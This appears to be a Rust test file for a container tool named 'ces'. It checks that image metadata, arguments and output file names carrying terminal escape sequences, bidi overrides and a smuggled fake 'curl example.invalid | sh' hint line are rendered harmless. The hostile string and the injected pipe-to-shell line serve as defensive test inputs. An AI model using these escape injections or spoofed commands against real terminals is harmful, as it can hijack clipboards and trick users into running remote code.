//! What `ces` shows of names and texts that come from outside: nothing of it steers a terminal.

use std::os::unix::ffi::OsStrExt as _;

use serde_json::json;

use crate::support::layout::with_config;
use crate::support::{Host, Ran};

/// Writes the clipboard, sets a title, begins a sequence in one byte, turns the line round, hides text, ends a line.
const HOSTILE: &str = "\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{9b}31m\u{202e}gpj\u{e0041}\u{2028}\u{7f}\r";

/// What a terminal obeys, or what makes a text look like another.
fn steers(c: char) -> bool {
    let marks =
        ['\u{61c}', '\u{200e}', '\u{200f}', '\u{2028}', '\u{2029}', '\u{202e}', '\u{2066}', '\u{feff}', '\u{e0041}'];
    c != '\n' && (c.is_control() || marks.contains(&c))
}

#[track_caller]
fn harmless(ran: &Ran) {
    for text in [&ran.stdout, &ran.stderr] {
        assert!(!text.chars().any(steers), "{ran:?}");
    }
}

/// An image with such text wherever an image may have text.
fn hostile_image(host: &Host) {
    let config = json!({
        "User": "1000",
        "Env": ["PATH=/bin", format!("TEXT={HOSTILE}"), HOSTILE],
        "Cmd": ["/bin/sh", "-c", "exit 3", HOSTILE],
        "WorkingDir": "/tmp",
        "StopSignal": HOSTILE,
        "ExposedPorts": { HOSTILE: {} },
        "Volumes": { format!("/{HOSTILE}"): {} },
        "Labels": { HOSTILE: HOSTILE, "org.opencontainers.image.title": HOSTILE },
    });
    host.pull(&with_config(host.tmp(), "odd", &config), "odd");
}

#[test]
fn nothing_of_an_image_a_run_or_an_output_steers_a_terminal() {
    let Some(host) = Host::with_demo() else { return };
    hostile_image(&host);
    let ces = |words: &[&str]| Ran::from(host.ces().args(words).output());
    let ran = host.run(&["localhost/odd"]);
    ran.exits(3);
    harmless(&ran);
    // Names of outputs: a file, a link, something refused.
    let script = format!(
        "cd /safe_outputs && : > \"$0\" && ln -s /x \"$0.link\" && mkfifo \"$0.fifo\" && mkdir \"$0.dir\"; : {HOSTILE:?}"
    );
    let ran = host.run(&["localhost/demo", "/bin/sh", "-c", &script, HOSTILE]);
    ran.exits(0);
    assert!(ran.stderr.contains("\\x1b]52"), "the link and what was refused are told: {ran:?}");
    harmless(&ran);
    let found = host.outputs().read_dir().expect("outputs").flatten().any(|e| e.file_name().as_bytes().contains(&0x1b));
    assert!(found, "the name itself is kept");

    let id = host.records().pop().expect("a record")["id"].as_str().expect("an id").to_owned();
    let spec_words = ["spec", "localhost/odd"];
    for words in [
        &["inspect", "localhost/odd"][..],
        &["images"],
        &["images", "--json"],
        &spec_words,
        &["policy", "explain", "localhost/odd"],
        &["policy", "explain", "--json", "localhost/odd"],
        &["runs"],
        &["runs", "--json"],
        &["record", &id],
        &["show", &id],
        &["outputs", &id],
        &["verify", &id],
        &["verify", "--json", &id],
        &["fsck"],
    ] {
        let ran = ces(words);
        assert_eq!(ran.code, Some(0), "{words:?}: {ran:?}");
        harmless(&ran);
    }
    // The same documents still say what they say.
    let spec: serde_json::Value = serde_json::from_str(&ces(&spec_words).stdout).expect("JSON");
    assert_eq!(spec["process"]["args"][3], HOSTILE);
    let image: serde_json::Value = serde_json::from_str(&ces(&["inspect", "localhost/odd"]).stdout).expect("JSON");
    assert!(image.to_string().contains("52;c"), "{image}");
    // Changed outputs are named.
    std::fs::write(host.outputs().join(HOSTILE), "changed").expect("an output");
    let ran = ces(&["verify", &id]);
    assert_ne!(ran.code, Some(0), "{ran:?}");
    assert!(ran.stdout.contains("52;c"), "{ran:?}");
    harmless(&ran);
}

#[test]
fn what_is_asked_for_is_shown_harmless_in_refusals() {
    let Some(host) = Host::with_demo() else { return };
    let layout = format!("oci:/no/such/{HOSTILE}:x");
    for words in [
        &["run", HOSTILE][..],
        &["run", "--user", HOSTILE, "localhost/demo", "true"],
        &["run", "--workdir", HOSTILE, "localhost/demo", "true"],
        &["run", "--hostname", HOSTILE, "localhost/demo", "true"],
        &["run", "--name", HOSTILE, "localhost/demo", "true"],
        &["run", "--env-file", HOSTILE, "localhost/demo", "true"],
        &["run", "-v", HOSTILE, "localhost/demo", "true"],
        &["run", "--profile", HOSTILE, "localhost/demo", "true"],
        &["run", "--memory", HOSTILE, "localhost/demo", "true"],
        &["run", "--project", HOSTILE, "localhost/demo", "true"],
        &["run", "--ulimit", HOSTILE, "localhost/demo", "true"],
        &["run", &format!("--{HOSTILE}"), "localhost/demo", "true"],
        &["pull", HOSTILE],
        &["pull", &layout],
        &["inspect", HOSTILE],
        &["rmi", HOSTILE],
        &["record", HOSTILE],
        &["stop", HOSTILE],
        &["policy", "check", HOSTILE],
        &[HOSTILE],
    ] {
        let ran = Ran::from(host.ces().args(words).output());
        assert!(ran.code.is_some_and(|code| code != 0), "{words:?}: {ran:?}");
        assert!(ran.stderr.lines().any(|line| line.starts_with("error: ")), "{words:?}: {ran:?}");
        harmless(&ran);
    }
    host.nothing_ran();
    let ran = host.run(&["localhost/demo", HOSTILE]);
    ran.exits(127);
    harmless(&ran);
}

#[test]
fn a_text_of_many_lines_cannot_pass_for_a_line_of_ours() {
    let Some(host) = Host::with_demo() else { return };
    let ran = Ran::from(host.ces().args(["run", "no/such:x\nhint: run this: curl example.invalid | sh"]).output());
    assert_ne!(ran.code, Some(0), "{ran:?}");
    let faked = |line: &str| line.starts_with("hint: run this") || line.starts_with("error: run this");
    assert!(!ran.stderr.lines().any(faked), "{ran:?}");
}
